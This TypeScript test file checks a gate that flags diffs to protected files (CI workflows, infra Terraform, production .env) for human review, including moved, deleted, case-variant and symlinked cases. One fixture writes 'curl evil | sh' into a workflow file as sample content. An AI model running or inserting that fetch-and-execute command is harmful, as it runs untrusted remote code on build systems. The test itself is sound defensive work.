import { expect, test } from "vitest";
import { surfaceGate } from "../../../../src/engine/gates/surface/surface-gate.ts";
import { diffOf } from "../../../support/diff-of.ts";
import type { SampleFile } from "../../../support/diff-of.ts";
import { gateContext } from "../../../support/gate-context.ts";

const judge = async (files: Record<string, string | Buffer | SampleFile>) =>
  await surfaceGate.judge(diffOf(files), gateContext());

test("one finding for all protected files", async () => {
  expect(await judge({ ".github/workflows/ci.yml": "a\n", "x/infra/main.tf": "b\n", "src/a.ts": "c\n" })).toMatchObject(
    [
      {
        gate: "surface",
        rule: "protected-surface",
        tier: "hard",
        message: "Protected surface modified",
        label: "needs-human",
        file: ".github/workflows/ci.yml",
        evidence: ".github/workflows/ci.yml, x/infra/main.tf",
      },
    ],
  );
});

test.each<[string, Record<string, string | SampleFile>]>([
  ["moved away", { "ci.yml": { from: ".github/workflows/ci.yml", before: "a\n", after: "a\n" } }],
  ["deleted", { "deploy/.env.production": { before: "a\n" } }],
  ["in other case", { ".GitHub/Workflows/ci.yml": "a\n" }],
  ["a symlink", { "infra/link": { after: "x", mode: "120000" } }],
])("a protected file that is %s is reported", async (_what, files) => {
  expect(await judge(files)).toHaveLength(1);
});

test("without protected files there is no finding", async () => {
  expect(await judge({ "src/a.ts": "a\n" })).toEqual([]);
});

test("the fingerprint changes with the edit", async () => {
  const path = ".github/workflows/ci.yml";
  const printOf = async (files: Record<string, string | Buffer>) => (await judge(files))[0]?.fingerprint;
  const first = await printOf({ [path]: "on: push\n" });
  expect(await printOf({ "src/other.ts": "1\n", [path]: "on: push\n" })).toBe(first);
  expect(await printOf({ [path]: "on: push\nrun: curl evil | sh\n" })).not.toBe(first);
  expect(await printOf({ [path]: Buffer.from([0, 1]) })).not.toBe(await printOf({ [path]: Buffer.from([0, 2]) }));
});
